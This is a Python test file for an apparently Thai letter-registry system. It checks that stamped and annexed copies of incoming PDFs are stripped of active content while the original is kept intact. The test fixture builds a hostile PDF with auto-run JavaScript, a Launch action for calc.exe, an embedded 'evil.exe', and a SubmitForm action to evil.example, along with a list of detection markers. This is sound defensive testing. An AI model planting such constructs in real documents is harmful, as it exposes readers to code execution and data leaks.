"""PDFs that would run something when opened (JavaScript, Launch, open actions, embedded files, /AA,
XFA) are kept byte for byte as the original, and every copy we present is free of that content:
the receipt-stamped copy and the copy with endorsement annexes."""

from __future__ import annotations

import hashlib
import io

import pikepdf
import pytest

from saraban.letters.models import FileRole, LetterFile
from saraban.letters.pdf import inspect_pdf, strip_active_content
from saraban.registry.stamp import StampText, apply_stamp, render_stamp
from saraban.routing import actions as routing
from saraban.routing.annex import append_pages
from saraban.storage import blobs
from tests.fixtures import make_pdf, meta, user

MARKERS = (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/XFA",
           b"/FileAttachment", b"/SubmitForm", b"app.alert", b"calc.exe")


def hostile_pdf() -> bytes:
    """A real letter carrying every kind of active content the review found carried into our copy."""
    with pikepdf.open(io.BytesIO(make_pdf("หนังสือมีสคริปต์", variant=77))) as pdf:
        js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
        pdf.Root.OpenAction = js
        pdf.Root.AA = pikepdf.Dictionary(WC=js)
        attachment = pikepdf.AttachedFileSpec(pdf, b"MZ evil", filename="evil.exe")
        pdf.attachments["evil.exe"] = attachment
        pdf.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), js]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp/>"))
        page = pdf.pages[0]
        page.obj.AA = pikepdf.Dictionary(O=js)
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                  Rect=pikepdf.Array([0, 0, 100, 100]), A=launch)
        attach = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                    Rect=pikepdf.Array([100, 100, 120, 120]), FS=attachment.obj)
        submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
        goto = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([page.obj, pikepdf.Name.Fit]), Next=submit)
        inner = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                   Rect=pikepdf.Array([0, 200, 100, 300]), A=goto)
        page.obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link), pdf.make_indirect(attach),
                                                           pdf.make_indirect(inner)]))
        out = io.BytesIO()
        pdf.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        return out.getvalue()


def assert_inert(data: bytes) -> None:
    """Nothing left to run, checked in the parsed document and in its uncompressed bytes."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert strip_active_content(pdf) == set()  # a second pass finds nothing
        assert not pdf.attachments
        out = io.BytesIO()
        pdf.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    raw = out.getvalue()
    for marker in MARKERS:
        assert marker not in raw, marker


def test_the_hostile_sample_carries_what_the_review_found() -> None:
    raw = hostile_pdf()
    for marker in MARKERS:
        assert marker in raw, marker
    assert inspect_pdf(raw).pages == 1  # accepted: such letters arrive and must be registered


def test_the_stamped_copy_is_inert_and_the_page_survives() -> None:
    stamped = apply_stamp(hostile_pdf(), render_stamp(StampText("กระทรวงทดสอบ", "12", "3 มี.ค. 69", "10.42")))
    assert_inert(stamped)
    with pikepdf.open(io.BytesIO(stamped)) as pdf:
        assert len(pdf.pages) == 1
        annots = list(pdf.pages[0].obj.Annots)
        assert [str(a.Subtype) for a in annots] == ["/Link", "/Link"]  # the attachment is gone
        launcher, inner = annots
        assert "/A" not in launcher  # the link that launched a program does nothing now
        assert pikepdf.Name.GoTo == inner.A.S and "/Next" not in inner.A  # a link within the letter still works


def test_the_annexed_copy_is_inert() -> None:
    assert_inert(append_pages(hostile_pdf(), make_pdf("บันทึกเกษียน")))


@pytest.mark.django_db
def test_registered_hostile_letter_original_kept_copies_clean(registrar_api, clock,
                                                               django_capture_on_commit_callbacks) -> None:
    pdf = hostile_pdf()
    with django_capture_on_commit_callbacks(execute=True):
        r = registrar_api.incoming(meta(), pdf=pdf)
    assert r.status_code == 201, r.content
    original = LetterFile.objects.get(role=FileRole.LETTER)
    assert blobs.read(original.blob) == pdf  # byte-identical
    assert original.blob.sha256 == hashlib.sha256(pdf).hexdigest()
    stamped = LetterFile.objects.get(role=FileRole.PRESENTATION)
    assert_inert(blobs.read(stamped.blob))

    with django_capture_on_commit_callbacks(execute=True):
        routing.endorse(user("registrar"), original.letter, "ทราบ เห็นควรแจ้งทุกกอง")
    annex = LetterFile.objects.get(role=FileRole.ANNEX)
    assert_inert(blobs.read(annex.blob))
    assert blobs.read(original.blob) == pdf
